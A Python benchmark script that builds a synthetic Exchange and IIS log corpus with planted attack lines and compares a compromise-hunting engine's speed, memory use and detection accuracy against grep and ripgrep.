                    "#Log-type: HttpProxy Logs", f"#Date: {stamps[0][:19]}.011Z", "#Fields: " + header]
            path = logging / "HttpProxy" / protocol / time.strftime("HttpProxy_%Y%m%d%H-1.LOG", time.gmtime(hour))
            chosen = _positions(rng, count, plants if index == files // 2 else [])
            _write(_LogFile(path, "HttpProxy", head, templates, stamps, chosen, bom=True), rows, corpus)

    # ECP Server: daily files, Layout A with a BOM.
    row_len = _mean_row_len(rows, ECP_NOISE)
    days = max(1, min(30, round(budgets["ECP"] / (2 * MB))))
    for index in range(days):
        day = start + index * 86400
        count = max(4, int(budgets["ECP"] / days / row_len))
        stamps = rows.stamps(count, time.strftime("%Y-%m-%dT", time.gmtime(day)), 0, 86400_000, millis=True)
        head = ["#Software: Microsoft Exchange Server", "#Version: 15.0.0.0", "#Log-type: ECP Server Log",
                f"#Date: {stamps[0][:19]}.223Z", "#Fields: TimeStamp,ServerName,EventId,EventData"]
        path = logging / "ECP" / "Server" / time.strftime("ECPServer%Y%m%d-1.LOG", time.gmtime(day))
        chosen = _positions(rng, count, by_stream.get("ECP", []) if index == days // 2 else [])
        _write(_LogFile(path, "ECP", head, ECP_NOISE, stamps, chosen, bom=True), rows, corpus)

    # IIS W3SVC1: one file per UTC day, no BOM; the middle day restarts logging (second directive block).
    row_len = _mean_row_len(rows, IIS_NOISE)
    days = max(2, min(30, round(budgets["IIS"] / (4 * MB))))
    iis_dir = bundle / "files" / "C" / "inetpub" / "logs" / "LogFiles" / "W3SVC1"
    for index in range(days):
        day = start + index * 86400
        date = time.strftime("%Y-%m-%d", time.gmtime(day))
        count = max(len(PLANTS) + 4, int(budgets["IIS"] / days / row_len))
        stamps = rows.stamps(count, date + " ", 0, 86400_000, millis=False)

        def directives(stamp: str, date: str = date) -> list[str]:
            return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
                    f"#Date: {date} {stamp}", "#Fields: " + IIS_FIELDS]

        middle = index == days // 2
        chosen = _positions(rng, count, by_stream.get("IIS", []) if middle else [])
        # Logging restarted mid-day: IIS writes the directive block again.
        restart = (count // 2, directives(stamps[count // 2][11:19])) if middle else None
        path = iis_dir / time.strftime("u_ex%y%m%d.log", time.gmtime(day))
        _write(_LogFile(path, "IIS", directives("00:00:00"), IIS_NOISE, stamps, chosen, stamp_len=19,
                        restart=restart), rows, corpus)
    return corpus


def verify_planted(corpus: Corpus) -> list[str]:
    """Planted lines whose recorded file/line does not hold the recorded text (bookkeeping errors)."""
    errors = []
    for plant in corpus.planted:
        drive, rest = plant.source.split(":\\", 1)
        path = corpus.bundle.joinpath("files", drive, *rest.split("\\"))
        with path.open("rb") as handle:
            for number, raw in enumerate(handle, 1):
                if number == plant.line:
                    if raw.rstrip(b"\r\n").decode("utf-8-sig") != plant.text:
                        errors.append(f"{plant.source}:{plant.line} holds another line")
                    break
            else:
                errors.append(f"{plant.source} has no line {plant.line}")
    return errors


def _mean_row_len(rows: _Rows, templates: Sequence[tuple[float, str, str]]) -> float:
    sample = rows.build(templates, ["2021-02-08T00:00:00.000Z"] * 200, {})
    return sum(len(row) + 2 for row in sample) / len(sample)


# ------------------------------------------------------------------------------------ tools


def literals_of_rules(data_dir: Path) -> list[str]:
    """Every prefilter literal of every rule (what grep and rg get, the engine's whole search load)."""
    sys.path.insert(0, str(REPO / "module_utils"))
    from exchange_remediation.hunt_rule import load_rule_set

    seen: dict[str, None] = {}
    for rule in load_rule_set(str(data_dir)).rules:
        for literal in rule.prefilter:
            seen.setdefault(literal, None)
    return list(seen)


def _pin() -> list[str]:
    taskset = shutil.which("taskset")
    try:
        usable = 0 in os.sched_getaffinity(0)
    except (AttributeError, OSError):
        usable = False
    return [taskset, "-c", "0"] if taskset and usable else []


@dataclass
class Timed:
    seconds: float
    cpu: float
    maxrss_kb: int
    stdout: str
    returncode: int


def run_timed(command: list[str], env: dict[str, str] | None = None) -> Timed:
    """Run a child and read its own resource usage (wait4), so earlier children do not count."""
    with tempfile.TemporaryFile() as out:
        begin = time.perf_counter()
        child = subprocess.Popen(command, stdout=out, stderr=subprocess.PIPE, env=env)
        _, status, usage = os.wait4(child.pid, 0)
        elapsed = time.perf_counter() - begin
        child.returncode = os.waitstatus_to_exitcode(status)
        stderr = child.stderr.read().decode(errors="replace") if child.stderr else ""
        if child.stderr:
            child.stderr.close()
        out.seek(0)
        stdout = out.read().decode(errors="replace")
    if child.returncode not in (0, 1):
        raise RuntimeError(f"{' '.join(command)} exited {child.returncode}: {stderr[-2000:]}")
    return Timed(elapsed, usage.ru_utime + usage.ru_stime, usage.ru_maxrss, stdout, child.returncode)


def count_lines_output(stdout: str) -> int:
    """Sum of grep/rg -c output ('path:count' per file)."""
    return sum(int(line.rsplit(":", 1)[1]) for line in stdout.splitlines() if ":" in line)


def grep_command(literals_file: Path, corpus: Path) -> list[str]:
    return ["grep", "-F", "-i", "-c", "-f", str(literals_file), "-r", str(corpus)]


def rg_command(literals_file: Path, corpus: Path, threads: int | None) -> list[str]:
    command = ["rg", "-F", "-i", "-c", "--no-ignore", "--hidden", "-f", str(literals_file)]
    if threads:
        command += ["-j", str(threads)]
    return [*command, str(corpus)]


def ensure_rg() -> str | None:
    found = shutil.which("rg")
    if found or os.geteuid() != 0 or not shutil.which("apt-get"):
        return found
    subprocess.run(["apt-get", "install", "-y", "ripgrep"], check=False, capture_output=True)
    return shutil.which("rg")


def engine_child(bundle: str, out: str) -> None:
    """Runs inside the child: hunt the bundle, write findings and timings as JSON."""
    sys.path.insert(0, str(REPO / "module_utils"))
    import resource

    from exchange_remediation.hunt_engine import hunt_bundle
    from exchange_remediation.hunt_rule import load_rule_set

    if os.environ.get("HUNT_BENCH_STAGE") == "prefilter":
        # The prefilter stage alone, with grep's literal set over the same files: what the engine
        # spends finding candidate lines, apart from parsing them and evaluating rules.
        from exchange_remediation.log_prefilter import scan_file

        literals = literals_of_rules(REPO / "data")
        logs = sorted(path for path in Path(bundle, "files").rglob("*") if path.is_file())
        scan_begin = time.perf_counter()
        lines = sum(len(scan_file(str(path), literals).candidates) for path in logs)
        Path(out).write_text(json.dumps({"prefilter_seconds": time.perf_counter() - scan_begin,
                                         "prefilter_lines": lines}))
        return
    begin = time.perf_counter()
    rule_set = load_rule_set(str(REPO / "data"))
    loaded = time.perf_counter()
    server = json.loads(Path(bundle, "server.json").read_text())
    hunt = hunt_bundle(bundle, rule_set, server)
    done = time.perf_counter()
    result = {
        "load_seconds": loaded - begin,
        "hunt_seconds": done - loaded,
        "maxrss_kb": _peak_rss_kb() or resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
        "rules": hunt.rules,
        "findings": [[f.rule, f.source, f.line, f.severity, f.evidence[:300]] for f in hunt.findings],
        "excluded": hunt.excluded,
        "warnings": hunt.warnings,
        "sources": {name: {"present": s.present, "files": s.files, "lines": s.lines, "bytes": s.bytes,
                           "first": s.first, "last": s.last, "capped": s.capped, "warnings": s.warnings[:5]}
                    for name, s in hunt.sources.items()},
    }
    Path(out).write_text(json.dumps(result))


def _peak_rss_kb() -> int:
    """Peak RSS of this process image (Linux VmHWM). ru_maxrss would also count the parent's peak:
    the kernel carries the high-water mark of the address space a process had before exec."""
    try:
        with open("/proc/self/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def run_engine(bundle: Path, pin: list[str], stage: str = "hunt") -> tuple[Timed, dict]:
    with tempfile.TemporaryDirectory() as work:
        out = Path(work) / "engine.json"
        timed = run_timed([*pin, sys.executable, str(Path(__file__).resolve()), "--engine-child", str(bundle),
                           "--engine-out", str(out)], env=dict(os.environ, HUNT_BENCH_STAGE=stage))
        if timed.returncode != 0 or not out.exists():
            raise RuntimeError(f"engine child failed (exit {timed.returncode})")
        return timed, json.loads(out.read_text())


def check_findings(planted: Sequence[PlantedLine], findings: Sequence[Sequence], rule_ids: set[str] | None = None
                   ) -> tuple[list[tuple[PlantedLine, str, str]], list[str]]:
    """(missed, noise): (planted line, expected rule, why) not reported; findings on any other line.

    findings are [rule, source, line, severity, evidence] as the engine child writes them.
    """
    by_line: dict[tuple[str, int], set[str]] = {}
    for finding in findings:
        by_line.setdefault((str(finding[1]).lower(), finding[2]), set()).add(finding[0])
    missed = []
    planted_keys = set()
    for plant in planted:
        key = (plant.source.lower(), plant.line)
        planted_keys.add(key)
        for rule in plant.rules:
            if rule not in by_line.get(key, set()):
                why = " (no such rule in the rule set)" if rule_ids is not None and rule not in rule_ids else ""
                missed.append((plant, rule, why))
    noise = []
    for finding in findings:
        rule, source, line, severity, evidence = (*finding, "", "")[:5]
        if (str(source).lower(), line) not in planted_keys:
            noise.append(f"{rule} at {source}:{line} [{severity}] {evidence}")
    return missed, noise


def _median(values: list[float]) -> float:
    return statistics.median(values) if values else float("nan")


def _warm(path: Path) -> None:
    """Read every file once so that every tool starts from the page cache."""
    for file in path.rglob("*"):
        if file.is_file():
            with file.open("rb") as handle:
                while handle.read(16 * MB):
                    pass


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--size-mb", type=float, default=1100, help="corpus size (default 1100)")
    parser.add_argument("--dir", help="where to write the corpus (default: a temporary directory)")
    parser.add_argument("--keep", action="store_true", help="keep the corpus afterwards")
    parser.add_argument("--rounds", type=int, default=3, help="timed runs per tool; the median is shown")
    parser.add_argument("--seed", type=int, default=2021)
    parser.add_argument("--no-install", action="store_true", help="never try to install ripgrep")
    parser.add_argument("--engine-child", help=argparse.SUPPRESS)
    parser.add_argument("--engine-out", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.engine_child:
        engine_child(args.engine_child, args.engine_out)
        return 0

    root = Path(args.dir) if args.dir else Path(tempfile.mkdtemp(prefix="hunt-bench-"))
    root.mkdir(parents=True, exist_ok=True)
    try:
        return _bench(root, args)
    finally:
        if not args.keep:
            shutil.rmtree(root / "bundle", ignore_errors=True)
            shutil.rmtree(root / "work", ignore_errors=True)
            if not args.dir:
                shutil.rmtree(root, ignore_errors=True)


def _bench(root: Path, args: argparse.Namespace) -> int:
    began = time.perf_counter()
    corpus = generate_corpus(root, args.size_mb, args.seed)
    generated = time.perf_counter() - began
    size_mb = corpus.bytes / MB
    print(f"corpus: {corpus.bundle}: {corpus.files} files, {size_mb:.1f} MiB, {corpus.lines:,} lines "
          f"(generated in {generated:.1f} s)")
    print("  bytes per stream: " + ", ".join(f"{k} {v / MB:.1f} MiB" for k, v in corpus.stream_bytes.items()))
    print("  ordinary rows: " + ", ".join(f"{k} {v:,}" for k, v in sorted(corpus.categories.items())))
    print(f"  planted attack lines: {len(corpus.planted)}")

    literals = literals_of_rules(REPO / "data")
    work = root / "work"
    work.mkdir(exist_ok=True)
    literals_file = work / "literals.txt"
    literals_file.write_text("".join(lit + "\n" for lit in literals))
    print(f"prefilter literals of all rules: {len(literals)}")
    pin = _pin()
    print("pinned to CPU 0 with taskset" if pin else "taskset unavailable: not pinned")
    _warm(corpus.bundle)

    env_c = dict(os.environ, LC_ALL="C")
    locale = os.environ.get("LC_ALL") or os.environ.get("LANG") or "(unset)"
    rg = shutil.which("rg") if args.no_install else ensure_rg()
    tools: list[tuple[str, Callable[[], Timed]]] = [
        (f"grep (LC_ALL={locale})", lambda: run_timed([*pin, *grep_command(literals_file, corpus.bundle)])),
        ("grep (LC_ALL=C)", lambda: run_timed([*pin, *grep_command(literals_file, corpus.bundle)], env=env_c)),
    ]
    if rg:
        tools += [
            ("rg -j1", lambda: run_timed([*pin, *rg_command(literals_file, corpus.bundle, 1)])),
            ("rg (default threads, pinned)", lambda: run_timed([*pin, *rg_command(literals_file, corpus.bundle,
                                                                                  None)])),
            ("rg (default threads, unpinned)", lambda: run_timed(rg_command(literals_file, corpus.bundle, None))),
        ]
    else:
        print("rg (ripgrep) not installed: skipped")

    # Each tool runs `rounds` times; medians of wall time and of CPU time (user + system, from wait4)
    # are shown. CPU time is the fairer figure on a busy machine; wall time is what a user waits.
    engine_runs: list[Timed] = []
    engine_rss: list[int] = []
    hunt_wall: list[float] = []
    prefilter_wall: list[float] = []
    result: dict = {}
    for _ in range(args.rounds):
        timed, result = run_engine(corpus.bundle, pin)
        engine_runs.append(timed)
        hunt_wall.append(result["hunt_seconds"])
        _, stage = run_engine(corpus.bundle, pin, "prefilter")
        prefilter_wall.append(stage["prefilter_seconds"])
        result["prefilter_lines"] = stage["prefilter_lines"]
        engine_rss.append(result["maxrss_kb"])
    tool_runs: dict[str, list[Timed]] = {}
    tool_counts: dict[str, int] = {}
    for name, run in tools:
        for _ in range(args.rounds):
            timed = run()
            tool_runs.setdefault(name, []).append(timed)
            tool_counts[name] = count_lines_output(timed.stdout)

    def wall(runs: list[Timed]) -> float:
        return _median([run.seconds for run in runs])

    def cpu(runs: list[Timed]) -> float:
        return _median([run.cpu for run in runs])

    print()
    print(f"{'tool':34s} {'wall s':>7s} {'MiB/s':>7s} {'CPU s':>7s} {'MiB/s':>7s}  matching lines")
    print(f"{'hunt engine (child, whole run)':34s} {wall(engine_runs):7.2f} {size_mb / wall(engine_runs):7.1f} "
          f"{cpu(engine_runs):7.2f} {size_mb / cpu(engine_runs):7.1f}  {len(result['findings'])} findings, "
          f"{sum(result['excluded'].values())} excluded")
    core = _median(hunt_wall)
    print(f"{'  of which hunt_bundle':34s} {core:7.2f} {size_mb / core:7.1f} {'':7s} {'':7s}  "
          f"(rule loading {result['load_seconds']:.2f} s)")
    prefilter = _median(prefilter_wall)
    print(f"{'prefilter stage alone (scan_file)':34s} {prefilter:7.2f} {size_mb / prefilter:7.1f} {'':7s} {'':7s}  "
          f"{result['prefilter_lines']:,} (every literal, as grep)")
    for name, runs in tool_runs.items():
        print(f"{name:34s} {wall(runs):7.2f} {size_mb / wall(runs):7.1f} {cpu(runs):7.2f} "
              f"{size_mb / cpu(runs):7.1f}  {tool_counts[name]:,}")
    print()
    for name, runs in tool_runs.items():
        print(f"throughput ratio engine/{name}: {wall(runs) / wall(engine_runs):.2f} (wall), "
              f"{cpu(runs) / cpu(engine_runs):.2f} (CPU); prefilter stage/{name}: {wall(runs) / prefilter:.2f}")
    print(f"engine peak RSS: {max(engine_rss) / 1024:.0f} MiB (limit 256 MiB)")

    scanned = {name: s for name, s in result["sources"].items() if s["bytes"]}
    print("engine read: " + ", ".join(f"{n} {s['files']} files {s['bytes'] / MB:.1f} MiB {s['lines']:,} lines"
                                     for n, s in sorted(scanned.items())))
    for name, stream_bytes in corpus.stream_bytes.items():
        read = result["sources"].get(name, {}).get("bytes", 0)
        if read != stream_bytes:
            print(f"WARNING: the engine read {read:,} bytes of {name}, the corpus has {stream_bytes:,}")
    for warning in result["warnings"][:10]:
        print(f"engine warning: {warning}")

    missed, noise = check_findings(corpus.planted, result["findings"], _rule_ids())
    missed_lines = {(plant.source, plant.line) for plant, _, _ in missed}
    print(f"planted lines: {len(corpus.planted)}, reported by every expected rule: "
          f"{len(corpus.planted) - len(missed_lines)}, missed: {len(missed_lines)}")
    reported: dict[tuple[str, int], set[str]] = {}
    for rule, source, line, *_ in result["findings"]:
        reported.setdefault((str(source).lower(), line), set()).add(rule)
    for plant in corpus.planted:
        rules = sorted(reported.get((plant.source.lower(), plant.line), set()))
        print(f"  {plant.label}: {', '.join(rules) or 'nothing'}")
    for plant, rule, why in missed:
        print(f"  MISSED {rule}{why}: {plant.label} at {plant.source}:{plant.line}")
    print(f"findings on ordinary lines: {len(noise)}")
    for line in noise[:50]:
        print(f"  NOISE {line}")
    if result["excluded"]:
        print("excluded by rule exclusions: " + ", ".join(f"{k} {v}" for k, v in sorted(result["excluded"].items())))
    return 1 if missed or noise else 0


def _rule_ids() -> set[str]:
    sys.path.insert(0, str(REPO / "module_utils"))
    from exchange_remediation.hunt_rule import load_rule_set

    return {rule.id for rule in load_rule_set(str(REPO / "data")).rules}


if __name__ == "__main__":
    sys.exit(main())
